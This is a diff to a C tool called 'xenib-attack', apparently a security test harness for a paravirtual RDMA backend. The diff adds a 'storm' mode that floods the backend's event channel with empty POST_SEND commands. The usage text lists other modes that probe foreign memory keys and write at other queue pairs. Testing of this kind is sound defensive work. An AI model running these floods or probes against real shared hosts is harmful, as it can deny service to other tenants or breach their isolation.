@@ -72,6 +72,8 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include <rdma/ib_user_verbs.h>
+
 #include "common.h"
 
 #define BUF_SIZE	65536
@@ -105,7 +107,7 @@ struct key {
 static void usage(FILE *f)
 {
 	fprintf(f,
-		"usage: xenib-attack [-d DEV] [-g GIDX] [options] keys|hold|regqp|regloop|gids|hog|pin\n"
+		"usage: xenib-attack [-d DEV] [-g GIDX] [options] keys|hold|regqp|regloop|gids|hog|pin|storm\n"
 		"  keys    probes with local keys that are not ours (see the source)\n"
 		"  hold    registers an MR, writes \"LKEY ADDR\" to -o FILE, holds it\n"
 		"  regqp   RDMA WRITEs at other QPs (-s sweep, -f targets)\n"
@@ -116,6 +118,8 @@ static void usage(FILE *f)
 		"          them until -f FILE exists or -w SEC\n"
 		"  pin     registers 1 MiB regions until refused (-s N: at most N),\n"
 		"          -o, -f and -w as for hog\n"
+		"  storm   kicks the backend's data channel -s N thousand times\n"
+		"          (default 100) with nothing queued\n"
 		"  -a LIST  gids: allowed GID indexes, N[,N]... (default: all)\n"
 		"  -d DEV   verbs device (default: the first)\n"
 		"  -g GIDX  GID index (default 0)\n"
@@ -972,6 +976,39 @@ static int mode_pin(const char *out, const char *stop, unsigned int wait_s,
 	return 0;
 }
 
+/*
+ * storm: -s N thousand kicks (default 100) as fast as the process can
+ * send them: the uverbs POST_SEND command with no work request, which
+ * the frontend turns into a notification of the backend's data event
+ * channel, on a QP with nothing queued.  Prints how many it sent and how
+ * long it took; the backend's statistics tell how many it took.
+ */
+static int mode_storm(unsigned int thousands)
+{
+	struct {
+		struct ib_uverbs_cmd_hdr hdr;
+		struct ib_uverbs_post_send cmd;
+	} req;
+	struct ib_uverbs_post_send_resp resp;
+	unsigned long i, n = (thousands ? thousands : 100) * 1000UL, bad = 0;
+	double t0 = xt_now_us();
+
+	memset(&req, 0, sizeof(req));
+	req.hdr.command = IB_USER_VERBS_CMD_POST_SEND;
+	req.hdr.in_words = sizeof(req) / 4;
+	req.hdr.out_words = sizeof(resp) / 4;
+	req.cmd.response = (uintptr_t)&resp;
+	req.cmd.qp_handle = qp->handle;
+	req.cmd.wqe_size = sizeof(struct ib_uverbs_send_wr);
+	for (i = 0; i < n; i++)
+		if (write(ctx->cmd_fd, &req, sizeof(req)) != (ssize_t)sizeof(req))
+			bad++;
+	printf("storm: %lu kicks in %.1f s, %lu refused\n", n,
+	       (xt_now_us() - t0) / 1e6, bad);
+	xt_check(bad == 0, "%lu kicks refused (%s)", bad, strerror(errno));
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	const char *dev = NULL, *file = NULL, *ready = NULL, *out = NULL;
@@ -1034,6 +1071,8 @@ int main(int argc, char **argv)
 		mode_gids(allow);
 	} else if (!strcmp(argv[optind], "regloop")) {
 		mode_regloop(file, out, wait_s);
+	} else if (!strcmp(argv[optind], "storm")) {
+		mode_storm(sweep);
 	} else if (!strcmp(argv[optind], "pin")) {
 		mode_pin(out, file, wait_s, sweep);
 	} else if (!strcmp(argv[optind], "hog")) {
